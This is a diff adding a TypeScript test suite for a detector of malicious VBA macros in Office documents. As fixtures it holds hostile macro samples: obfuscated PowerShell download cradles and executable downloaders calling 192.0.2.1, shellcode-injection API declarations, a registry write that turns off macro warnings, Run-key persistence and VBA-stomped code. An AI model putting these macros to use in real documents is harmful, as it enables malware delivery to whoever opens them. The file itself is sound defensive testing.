@@ -1,0 +1,237 @@
+/** VBA projects are read wherever they are, and judged by what their macros do. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { useInspector } from '#inspect/testing/inspector.ts'
+import { EICAR } from '#inspect/testing/samples.ts'
+import { compiledLiteral, macroDocument, pack, writeVba } from '#inspect/testing/vba-writer.ts'
+
+const { inspect } = useInspector()
+
+/** The findings about macros, with their severity, without the notice that there are any. */
+function found(document: Uint8Array): string[] {
+  const { findings, obstacle } = inspect(document)
+  assert.equal(obstacle, null)
+  return findings
+    .filter(({ id }) => id.startsWith('Docvet.Vba.') && id !== 'Docvet.Vba.Present' && id !== 'Docvet.Vba.AutoStart')
+    .map(({ id, severity }) => `${severity} ${id.slice('Docvet.Vba.'.length)}`)
+}
+
+const automatic = (body: string, rest = ''): Buffer => macroDocument(`Sub AutoOpen()\r\n${body}\r\nEnd Sub\r\n${rest}`)
+const manual = (body: string, rest = ''): Buffer =>
+  macroDocument(`Sub Button1_Click()\r\n${body}\r\nEnd Sub\r\n${rest}`)
+const URLMON =
+  'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long) As Long\r\n'
+const declared = (...names: string[]): string =>
+  names
+    .map((name) => `Private Declare PtrSafe Function ${name} Lib "kernel32" (ByVal a As LongPtr) As LongPtr\r\n`)
+    .join('')
+
+suite('hostile macros', () => {
+  const cases: Record<string, [Uint8Array, string]> = {
+    'Shell on opening': [automatic('Shell "calc.exe"'), 'malicious AutoProgram'],
+    'Shell on opening, from characters': [
+      automatic('Shell Chr(99) & Chr(97) & StrReverse("exe.cl")'),
+      'malicious AutoProgram',
+    ],
+    'a shell object': [automatic('CreateObject("WScript.Shell").Run "cmd /c start x.bat", 0'), 'malicious AutoProgram'],
+    'a shell object from pieces': [
+      automatic(
+        'Set w = CreateObject(Replace("W#Scr#ipt.Sh#ell", "#", ""))\nw.Run Join(Array("cm", "d /c x.bat"), ""), 0',
+      ),
+      'malicious AutoProgram',
+    ],
+    'the shell application': [
+      automatic('CreateObject("Shell.Application").ShellExecute "explorer.exe", "http://192.0.2.1/"'),
+      'malicious AutoProgram',
+    ],
+    WMI: [automatic('GetObject("winmgmts:").Get("Win32_Process").Create "notepad.exe"'), 'malicious AutoProgram'],
+    'hidden PowerShell by a click': [manual('Shell "powershell -w hidden -c ls", 0'), 'malicious PowerShell'],
+    'PowerShell from numbers': [
+      automatic(
+        `Dim s\nFor Each c In Array(${[...'powershell -nop -w hidden iex(iwr http://192.0.2.1/a)'].map((c) => c.charCodeAt(0) ^ 7).join(', ')})\ns = s & Chr(c Xor 7)\nNext\nShell s`,
+      ),
+      'malicious PowerShell',
+    ],
+    'a download of a program': [
+      macroDocument(`${URLMON}Sub A()\nURLDownloadToFile 0, "http://192.0.2.1/a.exe", "c:\\a.exe", 0, 0\nEnd Sub`),
+      'malicious Downloader',
+    ],
+    'a download by XMLHTTP': [
+      automatic(
+        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://192.0.2.1/a", False\nx.Send\nWith CreateObject("ADODB.Stream")\n.Type = 1\n.Open\n.Write x.responseBody\n.SaveToFile Environ("TEMP") & "\\a.exe", 2\nEnd With',
+      ),
+      'malicious Downloader',
+    ],
+    'a remote scriptlet': [manual('GetObject("script:http://192.0.2.1/a.sct")'), 'malicious Downloader'],
+    'code in memory': [
+      macroDocument(`${declared('VirtualAlloc', 'RtlMoveMemory', 'CreateThread')}Sub AutoOpen()\nx = 1\nEnd Sub`),
+      'malicious Injection',
+    ],
+    'code in memory by a callback': [
+      macroDocument(`${declared('VirtualAlloc', 'RtlMoveMemory', 'EnumSystemLocalesA')}Sub A()\nx = 1\nEnd Sub`),
+      'malicious Injection',
+    ],
+    'macro security switched off': [
+      automatic(
+        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings", 1, "REG_DWORD"',
+      ),
+      'malicious SecurityOff',
+    ],
+    'a script engine with text from a cell': [
+      automatic('With CreateObject("ScriptControl")\n.Language = "JScript"\n.AddCode (Range("A1").Value)\nEnd With'),
+      'malicious AutoProgram',
+    ],
+    'an unknown command': [automatic('Shell Range("A1").Value'), 'suspicious AutoExecute'],
+    'an unknown command in an obfuscated macro': [
+      automatic('Set w = CreateObject(StrReverse("llehS.tpircSW"))\nw.Run Range("A1").Value'),
+      'malicious AutoProgram',
+    ],
+    'a Run key': [
+      automatic(
+        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "a"',
+      ),
+      'suspicious Persistence',
+    ],
+    'macros that write macros': [
+      automatic('ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString "Sub A()"'),
+      'suspicious SelfModifying',
+    ],
+    'a script that is written': [
+      automatic('Open "c:\\a.vbs" For Output As #1\nPrint #1, "x"\nClose #1'),
+      'suspicious Dropper',
+    ],
+    'an event of a control': [
+      macroDocument('Sub InkPicture1_Painted(ByVal a)\nShell "cmd /c x"\nEnd Sub'),
+      'malicious AutoProgram',
+    ],
+    'a workbook that closes': [
+      macroDocument('Sub Workbook_BeforeClose(c)\nShell "cmd /c x"\nEnd Sub'),
+      'malicious AutoProgram',
+    ],
+  }
+  for (const [name, [document, expected]] of Object.entries(cases))
+    test(name, () => assert.ok(found(document).includes(expected), found(document).join(', ') || 'nothing'))
+})
+
+suite('harmless macros', () => {
+  const cases: Record<string, [Uint8Array, string[]]> = {
+    'a message on opening': [automatic('MsgBox "Hello"'), []],
+    'Shell in a comment': [automatic('\' Shell "cmd /c x"\nRem Shell "cmd /c x"'), []],
+    'Shell in a text': [automatic('MsgBox "Shell ""cmd /c x"""'), []],
+    'Shell by a click': [manual('Shell "notepad.exe c:\\a.txt"'), ['notice Execute']],
+    'a folder by a click': [manual('Shell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus'), ['notice Execute']],
+    'a shell object for a folder': [automatic('s = CreateObject("WScript.Shell").SpecialFolders("Desktop")'), []],
+    'a dictionary': [automatic('Set d = CreateObject("Scripting.Dictionary")\nd.Add "a", 1'), []],
+    'an XML document': [automatic('Set d = CreateObject("Msxml2.DOMDocument.4.0")\nd.Load "a.xml"'), []],
+    'another macro': [automatic('Application.Run "B"', 'Sub B()\nx = 1\nEnd Sub'), []],
+    'a web request by a click': [
+      manual(
+        'Set x = CreateObject("WinHttp.WinHttpRequest.5.1")\nx.Open "GET", "https://example.com/rates"\nx.Send\nMsgBox x.ResponseText',
+      ),
+      ['notice Network'],
+    ],
+    'rates that are saved': [
+      macroDocument(
+        `${URLMON}Sub AutoOpen()\nURLDownloadToFile 0, "https://example.com/rates.csv", Environ("TEMP") & "\\rates.csv", 0, 0\nEnd Sub`,
+      ),
+      ['notice Network'],
+    ],
+    'functions for windows': [
+      macroDocument(
+        `${declared('FindWindowA', 'SendMessageA', 'RtlMoveMemory', 'GetTickCount')}Sub AutoOpen()\nx = GetTickCount(0)\nEnd Sub`,
+      ),
+      [],
+    ],
+    'a text file': [automatic('Open "c:\\log.txt" For Append As #1\nPrint #1, Now\nClose #1'), []],
+    'quotes and lines by number': [automatic('MsgBox Chr(34) & "a" & Chr(34) & Chr(13) & Chr(10) & Chr(9)'), []],
+    'a button beside an automatic macro': [
+      automatic('x = 1', 'Sub Button1_Click()\nShell "cmd /c dir"\nEnd Sub'),
+      ['notice Execute'],
+    ],
+  }
+  for (const [name, [document, expected]] of Object.entries(cases))
+    test(name, () => assert.deepEqual(found(document), expected))
+})
+
+suite('projects', () => {
+  const HOSTILE = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "cmd /c x"\r\nEnd Sub\r\n'
+  const isFound = (document: Uint8Array): boolean => found(document).includes('malicious AutoProgram')
+
+  test('are read in documents and workbooks of Office 97 as well', () => {
+    assert.ok(isFound(writeVba({ M: HOSTILE }, { root: 'Macros' })))
+    assert.ok(isFound(writeVba({ M: HOSTILE }, { root: '_VBA_PROJECT_CUR' })))
+  })
+  test('with a wrong offset in the directory', () => {
+    assert.ok(isFound(writeVba({ M: HOSTILE }, { declaredOffset: 7 })))
+    assert.ok(isFound(writeVba({ M: HOSTILE.replace(/^.*\n/, '') }, { declaredOffset: 7 })))
+  })
+  test('with an unreadable directory', () => {
+    assert.ok(isFound(writeVba({ M: HOSTILE }, { directory: Buffer.from('damaged') })))
+    assert.ok(isFound(writeVba({ M: HOSTILE }, { directory: pack(Buffer.from('nonsense')) })))
+  })
+  test('with a module that the directory does not list', () => {
+    const document = writeVba({ A: 'Attribute VB_Name = "A"\r\n' }, { unlisted: { M: HOSTILE } })
+    assert.deepEqual(found(document), ['malicious AutoProgram', 'notice Hidden'])
+  })
+  test('without compiled code', () => {
+    const none = { compiled: Buffer.alloc(0) }
+    assert.deepEqual(found(writeVba({ M: HOSTILE }, none)), ['malicious AutoProgram', 'suspicious Purged'])
+    assert.deepEqual(found(writeVba({ M: 'Sub A()\r\nEnd Sub\r\n' }, none)), [])
+  })
+  test('that contain macros are noticed', () => {
+    assert.ok(inspect(macroDocument('Sub A()\nEnd Sub')).findings.some(({ id }) => id === 'Docvet.Vba.Present'))
+  })
+  test('are scanned by the rules', () => {
+    assert.equal(inspect(macroDocument(`Sub A()\nx = "${EICAR}"\nEnd Sub`)).findings[0]?.id, 'Docvet.Test.Eicar')
+    const encoded = Buffer.from(`${EICAR}\n`.repeat(40)).toString('base64')
+    assert.equal(inspect(macroDocument(`Sub A()\nx = "${encoded}"\nEnd Sub`)).findings[0]?.id, 'Docvet.Test.Eicar')
+  })
+})
+
+suite('compiled code', () => {
+  const compiled = (...texts: string[]): Buffer =>
+    Buffer.concat([Buffer.alloc(2_500), ...texts.map(compiledLiteral), Buffer.alloc(20)])
+  const HARMLESS = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nMsgBox "Hello"\r\nEnd Sub\r\n'
+
+  test('with a command that the source does not have', () => {
+    const plan = { compiled: compiled('Hello', 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA') }
+    assert.deepEqual(found(writeVba({ M: HARMLESS }, plan)), ['malicious Stomped'])
+    assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: compiled('WScript.Shell') })), ['malicious Stomped'])
+  })
+  test('with the texts of the source, or others that tell nothing', () => {
+    assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: compiled('Hello', 'Good morning') })), [])
+  })
+  test('without a source', () => {
+    assert.deepEqual(found(writeVba({ M: '' }, { compiled: compiled('Hello') })), ['suspicious SourceMissing'])
+  })
+})
+
+suite('texts of forms', () => {
+  const form = (text: string): Buffer =>
+    macroDocument('Sub AutoOpen()\nShell UserForm1.TextBox1.Text\nEnd Sub', {
+      storages: ['UserForm1'],
+      streams: {
+        'UserForm1/f': Buffer.alloc(40),
+        'UserForm1/o': Buffer.concat([Buffer.alloc(20), Buffer.from(text), Buffer.alloc(9)]),
+      },
+    })
+
+  test('that a macro runs', () => {
+    assert.deepEqual(found(form('cmd /c powershell -nop -c "iex x"')), [
+      'malicious AutoProgram',
+      'suspicious AutoExecute',
+    ])
+    assert.deepEqual(found(form([...'cmd /c start x.bat'].reverse().join(''))), [
+      'malicious AutoProgram',
+      'suspicious AutoExecute',
+    ])
+    assert.deepEqual(found(form(Buffer.alloc(300, 'abc').toString('base64'))), [
+      'suspicious AutoExecute',
+      'suspicious FormPayload',
+    ])
+  })
+  test('that are only text', () => {
+    assert.deepEqual(found(form('Please enter the name of the program')), ['suspicious AutoExecute'])
+  })
+})
